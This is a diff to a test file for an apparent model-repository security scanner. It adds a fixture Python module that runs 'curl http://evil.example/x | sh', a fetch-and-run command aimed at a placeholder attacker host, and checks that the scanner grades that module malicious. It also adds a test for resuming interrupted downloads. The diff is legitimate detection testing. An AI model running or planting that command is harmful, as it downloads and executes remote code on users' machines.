@@ -1,4 +1,4 @@
-import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -65,6 +65,10 @@ beforeAll(async () => {
   await hub.addSimpleRepo('acme/gated', [{ path: 'config.json', content: Buffer.from('{}') }], { gated: true });
   await hub.addSimpleRepo('acme/private', [{ path: 'config.json', content: Buffer.from('{}') }], { private: true });
   await hub.addSimpleRepo('acme/many', Array.from({ length: 25 }, (_, i) => ({ path: `d${i % 3}/f${i}.json`, content: Buffer.from(`{"i": ${i}}`) })));
+  await hub.addSimpleRepo('acme/remote', [
+    { path: 'config.json', content: Buffer.from('{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}') },
+    { path: 'modeling_x.py', content: Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n') },
+  ]);
   await hub.rename('oldorg/evil', 'acme/evil');
   await hub.addToken('good-token');
 });
@@ -248,5 +252,29 @@ describe('the download cache', () => {
     const online = await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
     expect(online.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('clean');
     expect((await hub.state()).log.some((l) => l.server === 'cdn' && l.path.includes(sha256(safe)))).toBe(true);
+  });
+});
+
+describe('repo files that refer to each other', () => {
+  it('a config whose auto_map names a module of the repo is graded by that module, fetched from the Hub', async () => {
+    const r = await scanHub('hf:acme/remote', opts());
+    const config = r.files.find((f) => f.path === 'config.json')!;
+    const remote = config.findings.find((f) => f.ruleId === 'hfconfig/remote-code')!;
+    expect(remote.severity).not.toBe('low');
+    expect(remote.message).toContain('modeling_x');
+    expect(r.files.find((f) => f.path === 'modeling_x.py')!.verdict).toBe('malicious');
+  });
+});
+
+describe('resuming across runs', () => {
+  it('a download left incomplete by an earlier run resumes from its length', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    const blobs = join(home, 'modelgate', 'models--acme--big', 'blobs');
+    mkdirSync(blobs, { recursive: true });
+    writeFileSync(join(blobs, `${sha256(bigZip)}.incomplete`), bigZip.subarray(0, 1 << 20));
+    const r = await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: home }) }));
+    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.sha256).toBe(sha256(bigZip));
+    const ranges = (await hub.state()).log.filter((l) => l.server === 'cdn' && l.path.includes(sha256(bigZip))).map((l) => l.range);
+    expect(ranges).toEqual([`bytes=${1 << 20}-`]);
   });
 });
